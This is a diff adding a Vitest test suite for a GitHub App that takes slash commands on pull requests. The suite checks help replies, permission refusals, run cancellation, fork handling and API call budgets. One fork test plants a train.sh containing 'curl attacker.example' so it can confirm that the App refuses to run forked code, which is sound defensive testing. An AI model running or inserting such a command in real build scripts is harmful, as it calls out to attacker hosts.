@@ -1,0 +1,171 @@
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { PullIssue } from '../../sandbox/github/shape/pull.ts';
+import type { Repository } from '../../sandbox/github/state.ts';
+import { lateArrivals, policy, scores } from './late-arrivals.ts';
+import { openScenario, type Scenario } from './scenario.ts';
+
+let scenario: Scenario;
+let repository: Repository;
+let pull: PullIssue;
+beforeAll(async () => {
+  scenario = await openScenario();
+  // Nothing here is about what a run finds, so that no runner takes one.
+  const waiting = { ...lateArrivals, '.github/siskin.yml': policy({ runner: 'nobody' }) };
+  repository = await scenario.adopt('commands', waiting);
+  pull = await scenario.propose(repository, { branch: 'change', files: { 'scores.csv': scores('bad') } });
+  await scenario.rest();
+});
+afterAll(() => scenario[Symbol.asyncDispose]());
+
+/** Says something, and what came of it: the reactions to it, the replies, and how many runs were requested. */
+async function answersTo(body: string, author = 'grace') {
+  const runs = scenario.world.github.actions.runsOf(repository).length;
+  const replies = scenario.outcome(pull).comments.length;
+  const comment = scenario.say(pull, body, author);
+  await scenario.rest();
+  return {
+    reactions: comment.reactions.map(({ content }) => content).toSorted(),
+    replies: scenario.outcome(pull).comments.slice(replies),
+    runs: scenario.world.github.actions.runsOf(repository).length - runs,
+  };
+}
+
+const latestRun = () => scenario.world.github.actions.runsOf(repository).at(-1)?.attempts[0];
+const check = () => scenario.check(pull, 'siskin: late');
+
+describe('everybody', () => {
+  it('is helped', async () => {
+    const { reactions, replies, runs } = await answersTo('How does this work?\n\n/help', 'rita');
+
+    expect({ reactions, runs }).toEqual({ reactions: ['+1', 'eyes'], runs: 0 });
+    expect(replies).toHaveLength(1);
+    expect(replies[0]).toMatch(/`\/train -m late`[\s\S]*Models here: `late`\./);
+  });
+
+  it('may ask where things stand', async () => {
+    expect(await answersTo('/status', 'rita')).toEqual({ reactions: ['+1', 'eyes'], replies: [], runs: 0 });
+  });
+
+  it('is told what a misspelt command may have meant', async () => {
+    const { reactions, replies } = await answersTo('/trian');
+
+    expect(reactions).toEqual(['-1', 'eyes']);
+    expect(replies[0]).toContain('`/trian` refused: **`unknown-command`**');
+    expect(replies[0]).toContain('Did you mean `/train`?');
+  });
+});
+
+describe('somebody who may only read', () => {
+  it.each(['/evaluate', '/train', '/cancel'])('may not %s', async (command) => {
+    const { reactions, replies, runs } = await answersTo(command, 'rita');
+
+    expect({ reactions, runs }).toEqual({ reactions: ['-1', 'eyes'], runs: 0 });
+    expect(replies[0]).toContain(
+      `\`${command}\` refused: **\`not-permitted\`** — it needs the role *write* in this repository, and rita has read`,
+    );
+    expect(latestRun()?.status).not.toBe('completed');
+  });
+});
+
+describe('somebody who may write', () => {
+  it('stops the run, and the check says who did', async () => {
+    expect(await answersTo('/cancel')).toEqual({ reactions: ['eyes', 'rocket'], replies: [], runs: 0 });
+
+    expect(latestRun()?.conclusion).toBe('cancelled');
+    expect(check()).toMatchObject({ status: 'completed', conclusion: 'cancelled' });
+    expect(check().output.title).toBe('Cancelled: by grace');
+  });
+
+  it.each(['/evaluate', '/siskin train -m late'])('starts a run with %s', async (command) => {
+    await answersTo('/cancel');
+
+    expect(await answersTo(command)).toEqual({ reactions: ['eyes', 'rocket'], replies: [], runs: 1 });
+    expect(check().status).toBe('queued');
+  });
+
+  it('does not start a second run while one waits', async () => {
+    expect(await answersTo('/train')).toEqual({ reactions: ['+1', 'eyes'], replies: [], runs: 0 });
+  });
+
+  it('starts one by asking for the check again once it has ended', async () => {
+    await answersTo('/cancel');
+    const before = scenario.world.github.actions.runsOf(repository).length;
+
+    await scenario.request('grace', 'POST', `commands/check-runs/${check().id}/rerequest`);
+    await scenario.rest();
+
+    expect(scenario.world.github.actions.runsOf(repository).length).toBe(before + 1);
+    expect(check().status).toBe('queued');
+  });
+
+  it('is told of a model that there is not', async () => {
+    const { replies } = await answersTo('/train -m late-arrival');
+
+    expect(replies[0]).toContain('**`unknown-model`** — the policy has no model `late-arrival`. Did you mean');
+  });
+});
+
+describe('a pull request from a fork', () => {
+  it('runs nothing, whoever asks', async () => {
+    const { github } = scenario.world;
+    const before = github.actions.runsOf(repository).length;
+    const fork = await github.fork(repository, 'rita');
+    await github.commitFiles({
+      repository: fork,
+      branch: 'gift',
+      message: 'A gift',
+      files: { 'train.sh': 'curl attacker.example' },
+      author: 'rita',
+    });
+    const gift = await github.openPullRequest({
+      repository,
+      author: 'rita',
+      title: 'gift',
+      head: 'gift',
+      headRepository: fork,
+    });
+    await scenario.rest();
+    const asked = scenario.say(gift, '/train');
+    await scenario.rest();
+
+    expect(github.actions.runsOf(repository).length).toBe(before);
+    expect(scenario.check(gift, 'siskin: late').conclusion).toBe('action_required');
+    expect(asked.reactions.map(({ content }) => content).toSorted()).toEqual(['-1', 'eyes']);
+    expect(scenario.outcome(gift).comments.at(-1)).toContain('`/train` refused: **`fork`**');
+  });
+});
+
+describe('the App', () => {
+  it('asks GitHub for little: at most ten reads and six writes for any one event', async () => {
+    const { github } = scenario.world;
+    const spent: Record<string, { readonly reads: number; readonly writes: number }> = {};
+    const measure = async (event: string, act: () => Promise<unknown> | unknown) => {
+      github.faults.onWebhook = (webhook) => (webhook.event === event.split(' ')[0] ? null : 'hold');
+      await act();
+      const from = github.calls.length;
+      await scenario.rest();
+      spent[event] = scenario.callsSince(from);
+      github.faults.onWebhook = () => null;
+      github.faults.releaseWebhooks();
+      await scenario.rest();
+    };
+    await measure('pull_request opened', async () => {
+      pull = await scenario.propose(repository, { branch: 'counted', files: { 'train.sh': 'exit 0\n' } });
+    });
+    await measure('pull_request synchronize', () =>
+      scenario.push(repository, { branch: 'counted', files: { 'train.sh': 'exit 1\n' } }),
+    );
+    await measure('issue_comment /status', () => scenario.say(pull, '/status'));
+    await measure('issue_comment /cancel', () => scenario.say(pull, '/cancel'));
+    await measure('issue_comment /train', () => scenario.say(pull, '/train'));
+    await measure('push', () => scenario.push(repository, { branch: 'main', files: { 'train.sh': 'exit 2\n' } }));
+
+    const costly = Object.entries(spent).filter(([, { reads, writes }]) => reads > 10 || writes > 6);
+    expect(costly).toEqual([]);
+    expect(Object.values(spent).every(({ reads }) => reads > 0)).toBe(true);
+  });
+
+  it('says nothing that GitHub would not say or take', () => {
+    expect(scenario.conformance.violations).toEqual([]);
+  });
+});
